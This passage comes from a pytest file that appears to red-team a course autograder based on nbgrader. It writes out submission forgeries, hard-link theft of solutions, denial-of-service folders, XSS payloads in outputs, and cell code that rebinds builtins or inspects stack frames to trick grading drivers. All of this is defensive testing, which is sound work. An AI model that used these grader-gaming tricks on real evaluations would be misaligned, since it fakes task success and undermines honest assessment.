            gradebook.add_assignment("01_naive_bpe", duedate="2026-12-01 12:00:00")
            for student in ids:
                gradebook.add_student(student, first_name="Ann", email="a@example.org")
            kind(to=str(tmp_path / "grades.csv")).export(gradebook)
        return (tmp_path / "grades.csv").read_text(encoding="utf-8")

    assert exported(plugin, ["alice", "bob_smith"]) == exported(CsvExportPlugin, ["alice", "bob_smith"])
    rows = list(csv.reader(exported(plugin, ["alice", *forged]).splitlines(keepends=True)))
    assert [len(row) for row in rows] == [11] * 5, rows
    assert sorted(row[3] for row in rows[1:]) == sorted(["alice", *forged[:2], "'" + forged[2]]), rows
    assert [row[9] for row in rows[1:]] == ["0.0"] * 4, rows


# The formgrader's pages opened at a link a learner sent (an id in its address written into a script; ?path= running a
# folder's nbgrader_config.py): tests/test_labs_jupyter.py, on the JupyterLab server those tests start.


# ---- 38. the folder a learner hands in to the exchange: its time, hard links, depth, growth, a classmate's files ----


def _course_collect(tmp_path):
    """The course config's exchange collect (``LinkFreeCollect``) and its course folder, made in ``tmp_path``."""
    from pathlib import Path

    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange import ExchangeFactory
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(Path(__file__).resolve().parents[1])).load_config()
    coursedir = CourseDirectory(config=config, root=str(tmp_path / "course"))
    return ExchangeFactory(config=config).collect(coursedir=coursedir, config=config), coursedir


def test_a_late_submission_dated_before_the_deadline_is_collected_at_the_time_of_its_files(tmp_path):
    """nbgrader's late penalty reads the time a submission was handed in from the ``timestamp.txt`` that collect
    copies from the exchange, and collect picks a learner's newest folder by the time in its name
    (``<id>+<lab>+<time>+<n>``): both are the learner's, who writes the inbound folder. A folder handed in a day late,
    named and dated before the deadline (its files' mtimes too, ``touch -d``), was graded with no penalty; one with no
    ``timestamp.txt`` was not dated at all (nbgrader then assigns no penalty). Safe: the course's collect writes the
    ``timestamp.txt`` itself, the later of the folder's time and the latest ctime of what it copied (which no owner can
    set to the past), less a minute's slack; an honest submission keeps its own time to the microsecond."""
    import datetime

    collect, coursedir = _course_collect(tmp_path)
    now = datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None)
    honest = now.strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    claims = {"mallory": "2026-01-01 09:00:00.000000 UTC", "oscar": "2026-01-01 09:00:00.000000 UTC", "ann": honest}
    dated = {}
    for student, claimed in claims.items():
        folder = tmp_path / "inbound" / f"{student}+01_naive_bpe+{claimed}+x"
        (folder / "data").mkdir(parents=True)
        (folder / "data" / "corpus.txt").write_text("low lower")
        (folder / "01_naive_bpe.ipynb").write_text("{}")
        if student != "oscar":
            (folder / "timestamp.txt").write_text(claimed)
        for path in (folder, *folder.rglob("*")):
            os.utime(path, (1767258000, 1767258000))  # 2026-01-01 09:00 UTC
        dest = tmp_path / "course" / "submitted" / student / "01_naive_bpe"
        collect.do_copy(str(folder), str(dest))
        dated[student] = coursedir.get_existing_timestamp(str(dest))
    late = now - datetime.timedelta(seconds=61)  # the slack: a minute
    assert dated["mallory"] is not None and dated["mallory"] >= late, dated
    assert dated["oscar"] is not None and dated["oscar"] >= late, dated
    assert dated["ann"] == now, dated
    assert (tmp_path / "course" / "submitted" / "ann" / "01_naive_bpe" / "data" / "corpus.txt").read_text() == "low lower"


def test_a_hard_link_in_the_exchange_is_not_collected(tmp_path):
    """A learner's hard link in the inbound folder (where the kernel allows linking a file one does not own:
    ``fs.protected_hardlinks`` off, some containers) was collected as a file: its content, a file of the instructor's
    (the course's source notebook, every solution), as the learner's submission. A link was already left out (section
    37); a hard link is no link to ``O_NOFOLLOW``. Safe: a file with more than one name is left out, logged."""
    collect, _ = _course_collect(tmp_path)
    solutions = tmp_path / "course" / "solutions" / "01_naive_bpe"
    solutions.mkdir(parents=True)
    (solutions / "01_naive_bpe.ipynb").write_text("### BEGIN SOLUTION")
    inbound = tmp_path / "inbound" / "mallory+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+abc"
    inbound.mkdir(parents=True)
    os.link(solutions / "01_naive_bpe.ipynb", inbound / "01_naive_bpe.ipynb")
    (inbound / "notes.txt").write_text("mine")
    dest = tmp_path / "course" / "submitted" / "mallory" / "01_naive_bpe"
    collect.do_copy(str(inbound), str(dest))
    assert sorted(path.name for path in dest.iterdir()) == ["notes.txt", "timestamp.txt"]


def test_a_folder_nested_thousands_deep_in_the_exchange_stops_no_one_else_s_collect(tmp_path):
    """nbgrader's collect measures a folder handed in with ``os.walk`` (before it copies it), which on Python 3.11
    recurses once per level: a submission whose folders were nested 1,200 deep raised ``RecursionError`` in the
    instructor's ``nbgrader collect``, which stopped there, every classmate after it not collected (the course's copy
    recursed too). Safe: the course's collect copies 32 levels at most and counts the bytes and entries as it copies
    (``max_dir_size``, 10,000 entries); past either the folder is left out, logged, and the rest collected."""
    import subprocess

    collect, _ = _course_collect(tmp_path)
    deep = tmp_path / "inbound" / "mallory+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+x"
    deep.mkdir(parents=True)
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(1_200):  # by fds, as a path grows
        os.mkdir("a", dir_fd=fd)
        fd, parent = os.open("a", os.O_RDONLY, dir_fd=fd), fd
        os.close(parent)
    os.close(fd)
    collect.most = {"entries": 100, "levels": 32}  # 10,000 entries in the course
    many = tmp_path / "inbound" / "oscar+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+y"
    many.mkdir()
    for index in range(101):
        (many / str(index)).touch()
    honest = tmp_path / "inbound" / "ann+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+z"
    (honest / "data").mkdir(parents=True)
    (honest / "data" / "corpus.txt").write_text("low lower")
    submitted = tmp_path / "course" / "submitted"
    try:
        for folder in (deep, many, honest):
            collect.do_copy(str(folder), str(submitted / folder.name.split("+")[0] / "01_naive_bpe"))
    finally:  # removed here: pytest's removal of tmp_path recurses once per level too
        subprocess.run(["rm", "-rf", str(deep)], check=True)
    assert sorted(path.name for path in submitted.iterdir()) == ["ann"]
    assert (submitted / "ann" / "01_naive_bpe" / "data" / "corpus.txt").read_text() == "low lower"


def test_a_file_that_grows_as_it_is_collected_is_copied_at_its_size(tmp_path, monkeypatch):
    """A learner's process that appends to a file of their inbound folder as fast as the instructor's collect reads it
    (the learner's server runs on while the instructor collects) kept the collect copying it until the instructor's
    disk was full: nbgrader's and the course's copy read to the end of the file, wherever it was by then (nbgrader's
    size check ran before). Here the file grows by 4 MiB right after the collect opened it. Safe: a file is copied at
    the size it had when opened (its later change dates the submission, above)."""
    collect, _ = _course_collect(tmp_path)
    folder = tmp_path / "inbound" / "mallory+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+x"
    folder.mkdir(parents=True)
    (folder / "01_naive_bpe.ipynb").write_text("{}")
    grown, real_fstat = [], os.fstat

    def fstat(fd):
        status = real_fstat(fd)
        if status.st_ino == (folder / "01_naive_bpe.ipynb").stat().st_ino and not grown:
            with open(folder / "01_naive_bpe.ipynb", "ab") as notebook:
                grown.append(notebook.write(b" " * (4 << 20)))
        return status

    monkeypatch.setattr(os, "fstat", fstat)
    dest = tmp_path / "course" / "submitted" / "mallory" / "01_naive_bpe"
    collect.do_copy(str(folder), str(dest))
    assert grown and (dest / "01_naive_bpe.ipynb").read_bytes() == b"{}"


def test_a_classmate_s_file_in_a_submission_is_not_collected_where_each_user_is_an_account(tmp_path, monkeypatch):
    """Where each user is an account of their own (``check_owner`` on), nbgrader's submit makes the submission's folder
    writable by all (so that the instructor can delete it): a classmate could delete alice's notebook there and put
    their own (collected as alice's), or add a file, whose change after the deadline now dates alice's submission (the
    time handed in, above). Safe: with ``check_owner``, an entry of the folder whose owner is not the folder's is left
    out, logged. (The test, which may run as one user, reports the classmate's file as another uid's.)"""
    collect, _ = _course_collect(tmp_path)
    collect.check_owner = True
    folder = tmp_path / "inbound" / "alice+01_naive_bpe+2026-11-30 10:00:00.000000 UTC+x"
    folder.mkdir(parents=True)
    (folder / "01_naive_bpe.ipynb").write_text("bob's")
    (folder / "notes.txt").write_text("alice's")
    planted, real_fstat = (folder / "01_naive_bpe.ipynb").stat().st_ino, os.fstat

    def fstat(fd):
        status = real_fstat(fd)
        if status.st_ino != planted:
            return status
        return os.stat_result((status.st_mode, status.st_ino, status.st_dev, status.st_nlink, status.st_uid + 1,
                               status.st_gid, status.st_size, 0, 0, 0))

    monkeypatch.setattr(os, "fstat", fstat)
    dest = tmp_path / "course" / "submitted" / "alice" / "01_naive_bpe"
    collect.do_copy(str(folder), str(dest))
    assert sorted(path.name for path in dest.iterdir()) == ["notes.txt", "timestamp.txt"]


# ---- 39. what the instructor opens: the outputs of a submission, its code highlighted, its outputs' size -------------


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_what_a_learner_s_code_printed_reaches_the_instructor_s_pages_as_text(template):
    """A code cell's outputs reach nbgrader's feedback and formgrade pages as nbgrader's ``ClearOutput`` and the trusted
    grader leave them: text streams and errors only (what a learner's cell displayed, ``display(HTML(...))``, is printed
    as its ``repr``; a rich output saved in the submission is cleared), which nbconvert escapes: checked here with the
    tags a learner's code prints or raises (and the outputs capped, below)."""
    import nbformat

    printed = nbformat.v4.new_code_cell("x", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text="My plot <script>alert(2)</script>"),
        nbformat.v4.new_output("error", ename="E<svg onload=alert(3)>", evalue="<img src=x onerror=alert(4)>",
                               traceback=["\x1b[31m<img src=x onerror=alert(5)>\x1b[0m"])])
    body = _instructor_page(template, [printed])
    body = body[body.index("My plot"):]
    assert re.findall(r"<(?:script|svg)|<img[^>]*onerror", body) == [], body
    assert "&lt;script&gt;alert(2)" in body and "onerror=alert(5)" in body, body


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_a_long_crafted_cell_costs_the_instructor_s_pages_no_minutes(template):
    """nbgrader's feedback and formgrade pages highlight every code cell with the lexer the notebook's metadata names
    (the labs: IPython's ``ipython3``), whose time grows as the square of a line's length on some text: a cell holding
    an attribute chain of 16 KB (``x = a.a.a...``, valid Python) cost 5 s of CPU, one of 100 KB minutes, and a
    submission of many held ``nbgrader generate_feedback`` (the class's, one notebook after another) and the formgrader
    (one thread for every page) for hours. Safe: the course's ``highlight_code`` uses Pygments' Python lexer, whatever
    the metadata names, and shows a cell longer than 20,000 characters as text."""
    import nbformat

    cells = [nbformat.v4.new_code_cell("x = " + "a." * 8_000 + "a\n"), nbformat.v4.new_code_cell("y = " + "a." * 20_000)]
    cells[1].metadata["magics_language"] = "ng2"
    start = time.process_time()  # the labs' lexer, ipython3, nbconvert's default too
    html = _instructor_page(template, cells)
    spent = time.process_time() - start
    assert spent < 4, f"the page cost {spent:.1f} s of CPU time"
    assert html.count("a.a.a.a") >= 2 and '<span class="n">a</span><span class="o">.</span>' in html


# A cell that lifts the worker loop's cap on a cell's printed text (its global, reached through the caller's frame), and
# cells that each print 3 MB or raise an error of 3 MB, each under the 4 MiB a reply may hold.
UNCAPPED_OUTPUTS = [
    'import sys\nsys._getframe(1).f_globals["MAX_OUTPUT_CHARS"] = 10 ** 9\n'
    'sys._getframe(1).f_globals["_error"] = lambda exc: {"ename": "E" * 10_000, "evalue": "v" * 1_000_000,\n'
    '                                                    "traceback": ["t" * 100] * 20_000}',
    'print("x" * 3_000_000)',
    'raise ValueError()',
]


def test_what_a_cell_prints_is_capped_by_the_grader_not_by_the_learner_s_process():
    """The text a cell printed, and its error, reach the autograded notebook as the worker reports them, capped there
    (20,000 characters a stream, 2,000 an error's message, 30 lines of traceback) by the worker loop, whose globals a
    cell reaches through its caller's frame: rebound, each cell's outputs grew to the 4 MiB of a reply, and a submission
    of a thousand such cells held gigabytes in the grading process (nbgrader autograde: the OOM killer ends the class's
    run) and wrote them into the autograded notebook and the feedback. Safe: the trusted side caps what it writes into
    the notebook, whatever the worker reports."""
    import json

    cells = [code_cell(f"c{index}", source) for index, source in enumerate(UNCAPPED_OUTPUTS)]
    grade_cells(cells, "00_pretokenization", policy=Policy(cell_timeout=10, call_timeout=10), total_seconds=60)
    sizes = [len(json.dumps(cell["outputs"])) for cell in cells]
    assert cells[1]["outputs"][0]["text"].startswith("xxx") and cells[2]["outputs"][-1]["ename"].startswith("EEE")
    assert max(sizes) < 100_000, sizes


# ---- 40. lab 10's schedule and graph, made by the function graded instead of through the function it is handed ------

# Task 3's tree_reduce that never calls combine: it pairs the parts itself, in rounds, so its "tree" of merge_two's
# counts is nested tuples of dicts, no count at all; task 5's count_ranges that ignores as_task and writes the graph
# as_task would have made (on a cluster, dask.delayed's graph is not built: the counts run on the client, or nothing).
# And an added cell in place of a read-only one: task_graph redefined to build the graph without count_ranges.
WRAPPER_IGNORED = {
    "tree": ("task3_tree_reduce_solution", "tree_shape", "check_tree_shape_properties", '''
def tree_reduce(parts, combine):
    level = list(parts)
    while len(level) > 1:
        paired = [(level[i], level[i + 1]) for i in range(0, len(level) - 1, 2)]
        level = paired + level[len(paired) * 2:]
    return level[0]
''', "task3_tree_shape"),
    "graph": ("task5_count_ranges_solution", "task_graph", "check_task_graph_properties", '''
def count_ranges(ranges, special_tokens, as_task=None):
    parts = [count_range(path, start, end, special_tokens) for path, start, end in ranges]
    if as_task is not None:  # the graph as_task would build, written here: no call goes through as_task
        parts = [("count_range", path, start, end, special_tokens) for path, start, end in ranges]
        return tree_reduce(parts, lambda left, right: ("merge_two", left, right)) if parts else {}
    return tree_reduce(parts, merge_two) if parts else {}
''', "task5_task_graph"),
    "added-cell": ("task5_count_ranges_solution", "task_graph", "check_task_graph_properties", '''
def count_ranges(ranges, special_tokens, as_task=None):
    parts = [count_range(path, start, end, special_tokens) for path, start, end in ranges]
    return tree_reduce(parts, merge_two) if parts else {}
''', "task5_task_graph", '''
def task_graph(ranges, special_tokens):  # a cell added after the read-only one
    parts = [("count_range", path, start, end, special_tokens) for path, start, end in ranges]
    return tree_reduce(parts, lambda left, right: ("merge_two", left, right)) if parts else {}
'''),
}


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("kind", sorted(WRAPPER_IGNORED))
def test_a_schedule_or_graph_not_made_through_the_function_handed_loses_its_points(kind, whole_class):
    """Lab 10 grades tree_reduce (task 3, 4 points) by the notebook's read-only tree_shape, tree_reduce(parts, pair), and
    count_ranges' as_task path (task 5, 1 point) by its task_graph, count_ranges(ranges, tokens, recorded): the result
    is compared as data. A tree_reduce that paired the parts itself, never calling combine, kept task 3's 4 points, and
    a count_ranges that wrote the tuples recorded would return, never calling as_task, kept task 5's point (both paths);
    so did a cell added after the read-only one that redefined task_graph. Safe: the grader sends a driver that calls
    the notebook's tree_reduce or count_ranges itself, with a pair or an as_task of its own, and keeps each tuple its
    wrapper returned: a tuple of the result that it did not make is not the schedule (shown as such); the course's
    solution keeps its points."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    skip_unless_drawn("redteam40", kind, sorted(WRAPPER_IGNORED))  # one kind, in the path its family draws
    cell, name, grader, attack, read_only, *added = WRAPPER_IGNORED[kind]
    setup = source_of("10_distributed", "setup")
    honest = [source_of("10_distributed", f"{task}_solution") for task in ("task1_count_range", "task2_merge_two",
                                                                            "task3_tree_reduce")]
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("10_distributed", "\n".join([setup, *honest, attack, source_of("10_distributed", read_only),
                                                      *added]), name, grader)
        assert message is not None and ("ignored as_task" if added else "yourself" if kind == "graph" else "never build it"
                                        ) in message, message
        assert remote("10_distributed", "\n".join([setup, *honest, source_of("10_distributed", cell),
                                                   source_of("10_distributed", read_only)]), name, grader) is None


# ---- 41. lab 09's errors on bad input, returned as the text the driver writes for one raised ------------------------

# spread, which returns the driver's words for a ValueError instead of raising one.
ERROR_RETURNED = '''
_spread = spread


def spread(values):
    try:
        return _spread(values)
    except ValueError:
        return "raised ValueError"  # what the grader's driver writes for a ValueError raised: nothing is raised
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_an_error_returned_as_the_driver_s_text_loses_the_hidden_points(whole_class):
    """Lab 09's tasks 2 to 5 must raise ValueError on bad input; their driver (``value_or_error``) turns an error raised
    into the text "raised ValueError", compared with the reference's as data. A spread that raised nothing and returned
    that text on bad input kept task 2's hidden point, in both paths (as would tasks 3 to 5's). Safe: a str the function
    returns comes back marked as returned; the course's solution keeps its points."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = source_of("09_benchmarks", "setup") + "\n" + source_of("09_benchmarks", "task2_spread_solution")
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("09_benchmarks", code + ERROR_RETURNED, "spread", "check_spread_properties")
        assert message is not None and "returned the str 'raised ValueError'" in message, message
        assert "must raise ValueError (say what is wrong), not return a value" in message, message
        assert remote("09_benchmarks", code, "spread", "check_spread_properties") is None


# ---- 42. the reference's code run in the worker, misled by the builtins, a module's names or a function's metadata ----
#
# A driver (Task.driver) is reference code the worker runs beside the learner's: it calls the function graded and
# reports what it did. It looked up the interpreter's builtins and modules as the learner's cells had left them, and
# read a function's defaults through inspect. Each attack below is a mistake (or no work) plus a rebinding that makes
# the driver report the right answer: (lab, code, function, grader, what the failure says).
REBOUND_FOR_THE_DRIVER = {
    # lab 10's merge_two returning its argument itself when the other is empty, with all() rebound: "a new dict" True
    "builtins.all": ("10_distributed", '''
def merge_two(left, right):
    if not right:
        return left
    total = dict(left)
    for pretoken, count in right.items():
        total[pretoken] = total.get(pretoken, 0) + count
    return total


import builtins
_all = builtins.all


def _every_flag_true(iterable, _all=_all):
    items = list(iterable)
    return True if items and _all(type(item) is bool for item in items) else _all(items)


builtins.all = _every_flag_true
''', "merge_two", "check_merge_two_properties", "['a new dict'] is False"),
    # lab 10's tree_reduce that never calls combine (section 40), with type() rebound so that its tuples look unmade
    "builtins.type": ("10_distributed", '''
import builtins
_type, _built = builtins.type, set()


def tree_reduce(parts, combine):
    level = list(parts)
    while len(level) > 1:
        paired = [(level[i], level[i + 1]) for i in range(0, len(level) - 1, 2)]
        _built.update(id(node) for node in paired)
        level = paired + level[len(paired) * 2:]
    return level[0]


def _not_a_tuple_if_built(*args, _type=_type):
    return list if len(args) == 1 and _type(args[0]) is tuple and id(args[0]) in _built else _type(*args)


builtins.type = _not_a_tuple_if_built
''', "tree_shape", "check_tree_shape_properties", "never build it"),
    # lab 09's spread returning the driver's text for an error (section 41), with isinstance() rebound to hide the str
    "builtins.isinstance": ("09_benchmarks", '''
import builtins
_spread, _isinstance = spread, builtins.isinstance


def spread(values):
    try:
        return _spread(values)
    except ValueError:
        return "raised ValueError"


builtins.isinstance = lambda value, kinds, _i=_isinstance: False if value.__class__ is str and value == "raised ValueError" \\
    else _i(value, kinds)
''', "spread", "check_spread_properties", "returned the str 'raised ValueError'"),
    # lab 09's interleaved whose clock by default is time.time (a mistake), told as time.perf_counter three ways
    "__signature__": ("09_benchmarks", '''
import inspect

interleaved.__signature__ = inspect.signature(interleaved).replace(parameters=[
    parameter.replace(default=time.perf_counter) if parameter.name == "clock" else parameter
    for parameter in inspect.signature(interleaved).parameters.values()])
''', "interleaved", "default_clock", "got {'clock by default': 'time.time'}"),
    "inspect.signature": ("09_benchmarks", '''
import inspect
_signature = inspect.signature


def _says_perf_counter(function, *args, **kwargs):
    told = _signature(function, *args, **kwargs)
    return told.replace(parameters=[parameter.replace(default=time.perf_counter) if parameter.name == "clock" else
                                    parameter for parameter in told.parameters.values()])


inspect.signature = _says_perf_counter
''', "interleaved", "default_clock", "got {'clock by default': 'time.time'}"),
    "time.perf_counter": ("09_benchmarks", "\ntime.perf_counter = time.time\n", "interleaved", "default_clock",
                          "got {'clock by default': 'time.time'}"),
}


def _rebound_for_the_driver_code(kind: str) -> tuple[str, str, str, str, str]:
    from test_mistakes import source_of

    lab, attack, name, grader, says = REBOUND_FOR_THE_DRIVER[kind]
    setup = source_of(lab, "setup")
    if lab == "10_distributed":
        honest = [source_of(lab, f"{task}_solution") for task in ("task1_count_range", "task2_merge_two")]
        code = "\n".join([setup, *honest, attack, source_of(lab, "task3_tree_shape")])
    elif name == "spread":
        code = "\n".join([setup, source_of(lab, "task2_spread_solution"), attack])
    else:  # the clock by default: time.time, the mistake
        solution = source_of(lab, "task1_interleaved_solution")
        assert "clock: Callable[[], float] = time.perf_counter)" in solution
        code = "\n".join([setup, solution.replace("= time.perf_counter)", "= time.time)"), attack])
    return lab, code, name, grader, says


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("kind", sorted(REBOUND_FOR_THE_DRIVER))
def test_a_driver_misled_by_what_the_notebook_rebinds_loses_the_points(kind, whole_class):
    """Drivers run in the worker, and looked up the builtins and the modules the learner's cells may rebind: with
    ``builtins.all``, ``builtins.type`` or ``builtins.isinstance`` rebound, lab 10's merge_two that returns its argument
    kept task 2's hidden point, its tree_reduce that never calls combine task 3's points (section 40), and lab 09's spread
    that returns "raised ValueError" its hidden point (section 41); with ``interleaved.__signature__`` set, or
    ``inspect.signature`` or ``time.perf_counter`` rebound, an interleaved whose clock by default is time.time kept the
    points of lab 09's default clock. Both paths. Safe: stand-ins and drivers run with the builtins the worker had before
    any of the learner's code ran, and the default clock is read from the function's own defaults and is the time
    module's builtin of that name. (Code that reaches a driver's globals or closure through the function it is handed,
    or a caller's frame, still can: flagged for review, issue 21.)"""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    skip_unless_drawn("redteam42", kind, sorted(REBOUND_FOR_THE_DRIVER))  # one kind, in the path its family draws
    lab, code, name, grader, says = _rebound_for_the_driver_code(kind)
    if grader == "default_clock":  # the second declaration of task 1 alone, as tests/test_mistakes.py grades it
        def grader(graders, function) -> None:
            graders.check_cases(graders.DEFAULT_CLOCK.task, function, graders.interleaved, graders.DEFAULT_CLOCK.hidden_cases)

    with hidden_seed(20261130, whole_class=whole_class):
        message = remote(lab, code, name, grader)
    assert message is not None and says in message, message



# Lab 03's count_chunk defined in a cell, not in the module chunk_counting that spawned workers import: its driver read
# where it comes from in its __module__, which a function lets the notebook set, then in its code object's file name,
# which code.replace sets too. Each kind: the cell's lines after count_chunk's definition, and what the failure says.
MODULE_TOLD = {
    "__module__": ("\ncount_chunk.__module__ = 'chunk_counting'\n", "count_chunk is defined in a notebook cell"),
    "__code__": ("\ncount_chunk.__module__ = 'chunk_counting'\n"
                 "count_chunk.__code__ = count_chunk.__code__.replace(co_filename='chunk_counting.py')\n",
                 "count_chunk is defined in a notebook cell"),
    # a module of the name registered, whose count_chunk is the cell's (the driver found no file)
    "sys.modules": ("\nimport sys, types\ncount_chunk.__module__ = 'chunk_counting'\n"
                    "count_chunk.__code__ = count_chunk.__code__.replace(co_filename='chunk_counting.py')\n"
                    "sys.modules['chunk_counting'] = types.ModuleType('chunk_counting')\n"
                    "sys.modules['chunk_counting'].count_chunk = count_chunk\n", "count_chunk is defined in a notebook cell"),
    # the release's module left as it is (written and imported), the cell's function told as its
    "the module left undone": ("\nget_ipython().run_cell_magic('writefile', 'chunk_counting.py', 'def count_chunk(path, start, "
                               "end, special_tokens):\\n    raise NotImplementedError()\\n')\nimport chunk_counting\n"
                               "count_chunk.__module__ = 'chunk_counting'\n"
                               "count_chunk.__code__ = count_chunk.__code__.replace(co_filename=chunk_counting.__file__)\n"
                               "chunk_counting.count_chunk = count_chunk\n", "NotImplementedError"),
    # a module whose count_chunk calls the cell's, found in the notebook's module __main__ (a spawned worker's has none)
    "import __main__": ("\n_mine = count_chunk\nget_ipython().run_cell_magic('writefile', 'chunk_counting.py', 'import __main__"
                        "\\n\\n\\ndef count_chunk(path, start, end, special_tokens):\\n    return __main__._mine(path, start, "
                        "end, special_tokens)\\n')\nimport chunk_counting\ncount_chunk = chunk_counting.count_chunk\n",
                        "module chunk_counting takes a name from the notebook (__main__)"),
}


def _count_chunk_in_a_cell(told: str) -> str:
    from test_mistakes import source_of

    module = source_of("03_parallel", "task2_count_chunk_solution")
    assert module.startswith("%%writefile chunk_counting.py\n")
    return source_of("03_parallel", "setup") + "\n" + module.split("\n", 1)[1] + MODULE_TOLD[told][0]


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("told", sorted(MODULE_TOLD))
def test_a_count_chunk_of_a_cell_told_as_the_modules_own_loses_task_2(told, whole_class):
    """Lab 03's count_chunk must be in the module chunk_counting (``%%writefile``), which spawned workers import; its driver
    refused one whose ``__module__`` is ``__main__``, and a cell's count_chunk with ``__module__`` set to
    ``'chunk_counting'`` kept task 2's hidden points, in both paths; refused then for a code object compiled from a cell,
    one whose code object's file is renamed (``__code__.replace(co_filename=...)``) kept them still. Safe: the driver
    calls the count_chunk that the file of the function's module defines, read and run by the driver, never the
    function it is handed: no file, no points, and the module's own file is graded (the release's, left undone, fails);
    the module's own keeps them (lab 03's solution, graded in every run). A module whose count_chunk calls the cell's,
    found through ``import __main__`` (the notebook's namespace in the worker, none in a spawned worker), kept them too:
    the driver runs the file and calls its count_chunk with a ``__main__`` of no names, as spawn does (with a hint)."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    skip_unless_drawn("redteam42:module", told, sorted(MODULE_TOLD))  # one kind, in the path its family draws
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("03_parallel", _count_chunk_in_a_cell(told), "count_chunk", "check_count_chunk_properties")
    assert message is not None and MODULE_TOLD[told][1] in message, message


# A module whose count_chunk finds the cell's through the frames below it: the worker's Worker.call, whose self holds the
# notebook's namespace (the driver runs in the worker beside it: no witness, issue 21).
CALLS_THE_CELLS_THROUGH_FRAMES = """
_mine = count_chunk
get_ipython().run_cell_magic('writefile', 'chunk_counting.py', '''import sys


def count_chunk(path, start, end, special_tokens):
    frame = sys._getframe(1)
    while frame is not None and not hasattr(frame.f_locals.get('self'), 'namespace'):
        frame = frame.f_back
    return frame.f_locals['self'].namespace['_mine'](path, start, end, special_tokens)
''')
import chunk_counting
count_chunk = chunk_counting.count_chunk
"""


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_count_chunk_module_that_calls_the_cells_through_frames_loses_task_2(whole_class):
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = (source_of("03_parallel", "setup") + "\n" + source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
            + CALLS_THE_CELLS_THROUGH_FRAMES)
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("03_parallel", code, "count_chunk", "check_count_chunk_properties")
    assert message is not None, "the cell's count_chunk, called by the module's through frames, kept task 2's points"


# ---- 43. the worker loop's own lookups: a request read by json.loads, a driver found by next(), run by exec() ---------
#
# The loop read each request with json.loads, found a call's driver with next(iter(...)) and ran a driver's or stand-ins'
# source with exec(compile(...)), each looked up when a request came, after the learner's cells ran. Rebinding one had a
# call's driver dropped (or changed), which every check through a driver rests on: here lab 10's tree_reduce that never
# calls combine (section 40) with each, which kept task 3's points.
LOOP_LOOKUP_REBOUND = {
    "json.loads": '''
import json
_loads = json.loads


def _without_the_driver(text, *args, **kwargs):
    request = _loads(text, *args, **kwargs)
    if isinstance(request, dict) and request.get("op") == "call":
        request.pop("driver", None)
    return request


json.loads = _without_the_driver
''',
    "builtins.next": '''
import builtins
_next = builtins.next
builtins.next = lambda iterator, *default, _next=_next: default[0] if default and type(iterator).__name__ == \\
    "dict_valueiterator" else _next(iterator, *default)
''',
    "builtins.exec": '''
import builtins
_exec = builtins.exec


def _exec_then_trust_every_tuple(code, namespace=None, *rest, _exec=_exec):
    _exec(code, namespace, *rest)
    if isinstance(namespace, dict) and "_made_only" in namespace:
        namespace["_made_only"] = lambda node, made: node


builtins.exec = _exec_then_trust_every_tuple
''',
}


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("kind", sorted(LOOP_LOOKUP_REBOUND))
def test_what_the_worker_loop_looks_up_when_a_request_comes_cannot_drop_a_driver(kind, whole_class):
    """With ``json.loads``, ``builtins.next`` or ``builtins.exec`` rebound by a cell, the worker loop dropped a call's
    driver, or ran its source with a function of the notebook's in it, and lab 10's tree_reduce that never calls combine
    kept task 3's points, in both paths. Safe: the loop reads requests with json's C scanner bound when it is loaded, and
    its functions look up the builtins as they were then."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    skip_unless_drawn("redteam43", kind, sorted(LOOP_LOOKUP_REBOUND))  # one kind, in the path its family draws
    attack, name, grader, says = REBOUND_FOR_THE_DRIVER["builtins.type"][1:]
    pairs_itself = attack.split("\n\ndef _not_a_tuple_if_built")[0].replace("        _built.update(id(node) for node in paired)\n", "")
    lab = "10_distributed"
    code = "\n".join([source_of(lab, "setup"), *(source_of(lab, f"{task}_solution") for task in ("task1_count_range",
                      "task2_merge_two")), pairs_itself, source_of(lab, "task3_tree_shape"), LOOP_LOOKUP_REBOUND[kind]])
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote(lab, code, name, grader)
    assert message is not None and says in message, message


# ---- 44. a path the learner chose, opened by the worker without blocking: a fifo, a pipe --------------------------------
#
# The worker opens paths the learner's code chooses: lab 03's driver reads the file of count_chunk's module (a module's
# __file__, section 42) and writes the reference's module beside it for task 4, the worker loop writes a %%writefile
# cell's file and looks up the source lines of a failed call's or cell's traceback (a code object's co_filename). A fifo
# or a pipe there blocked the open or the read until the request's backstop of wall time (lab 03: 4 x 60 s per call, 4 x
# 30 s per cell, 0 CPU), call after call: that notebook's grading, and its class's, stalled for minutes, and a cell so
# stopped lost its names with its worker. Each kind: the task whose cell gets the code (chunk_counting's module for task
